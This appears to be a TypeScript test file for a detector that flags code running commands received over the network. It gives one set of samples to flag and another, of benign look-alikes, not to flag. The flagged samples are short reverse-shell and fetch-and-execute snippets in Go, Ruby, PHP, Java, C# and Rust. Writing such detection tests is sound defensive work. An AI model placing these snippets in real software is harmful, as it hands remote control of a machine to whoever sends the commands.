import { does } from './does.ts';

describe('a program that obeys the network', () => {
  it.each([
    [
      'go',
      'c, _ := net.Dial("tcp", addr)\nr := bufio.NewReader(c)\nl, _ := r.ReadString(10)\no, _ := exec.Command("sh", "-c", l).Output()',
    ],
    ['go', 'r, _ := http.Get(u)\nb, _ := io.ReadAll(r.Body)\nexec.Command("/bin/bash", "-c", string(b)).Run()'],
    ['go', 'res, _ := http.Get(u)\nc := exec.Command("bash")\nc.Stdin = res.Body\nc.Start()'],
    ['ruby', "s = TCPSocket.new(h, 4444)\nwhile (cmd = s.gets)\n  IO.popen(cmd, 'r') { |io| s.print io.read }\nend"],
    ['php', '$s = fsockopen($h, 443);\nwhile ($c = fgets($s, 2048)) { fwrite($s, `$c`); }'],
    [
      'java',
      'Process p = new ProcessBuilder("/bin/sh").start();\nSocket s = new Socket(h, 9001); copy(s.getInputStream(), p.getOutputStream());',
    ],
    [
      'csharp',
      'var c = new TcpClient(h, 443);\nvar p = new Process();\np.StartInfo.FileName = "cmd.exe";\np.StartInfo.RedirectStandardInput = true;\np.Start();',
    ],
    ['rust', 'let s = TcpStream::connect(h)?;\nCommand::new("/bin/sh").stdin(s.try_clone()?).spawn()?;'],
  ] as const)('is told in %s', (language, code) => {
    expect(does(code, language)).toContain('download-and-run');
  });

  it.each([
    [
      'go',
      'func Wait(a string) { c, _ := net.Dial("tcp", a); c.Close() }\nfunc Shell(l string) { exec.Command("sh", "-c", l) }',
    ],
    ['go', 'c, _ := net.Dial("tcp", addr)\nc.Close()\nout, _ := exec.Command("docker", "ps").Output()'],
    ['go', 'c, _ := net.Dial("tcp", addr)\nout, _ := exec.Command("sh", "-c", "docker ps").Output()'],
    ['ruby', "s = TCPSocket.new(h, 80)\nline = ENV['EDITOR']\nsystem(line)"],
    ['php', '$s = fsockopen($h, 25);\n$v = exec($binary . " --version");'],
    [
      'rust',
      'use std::net::TcpStream;\nuse std::process::Command;\nfn up(a: &str) -> bool { TcpStream::connect(a).is_ok() }\nfn shell() -> Command { Command::new(var("SHELL").unwrap_or("sh")) }',
    ],
    ['java', 'Socket s = new Socket(h, 80);\nnew ProcessBuilder("git", "status").start();'],
  ] as const)('is none where the command stands in the code: %s', (language, code) => {
    expect(does(code, language)).not.toContain('download-and-run');
  });
});
